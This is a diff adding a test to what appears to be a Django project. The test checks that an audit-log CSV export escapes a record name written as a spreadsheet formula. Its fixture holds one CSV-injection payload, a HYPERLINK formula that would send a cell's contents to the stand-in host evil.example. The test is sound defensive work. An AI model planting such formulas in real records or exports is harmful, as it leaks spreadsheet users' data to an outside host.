@@ -119,3 +119,19 @@ def test_audit_log_query_count_does_not_grow(signed_in, events, count_queries):
             audit_record(actor=events, event="thing.changed", after={"n": n})
     assert count_queries(lambda: client.get("/audit-log/")) == few
     assert "42 events" in client.get("/audit-log/").content.decode()
+
+
+def test_csv_export_neutralises_a_formula_in_a_record_name(signed_in, partnership, make_user):
+    """A record named like a spreadsheet formula comes out as inert text."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    agency_create(
+        actor=make_user(Role.BUSINESS_UNIT),
+        partnerships=[partnership],
+        name=formula,
+        type="voluntary",
+        sector="voluntary",
+    )
+    client = signed_in(Role.CHAIR)
+    response = client.get("/audit-log/export.csv", {"event": "agency.created"})
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert [r["target"] for r in rows] == ["'" + formula]
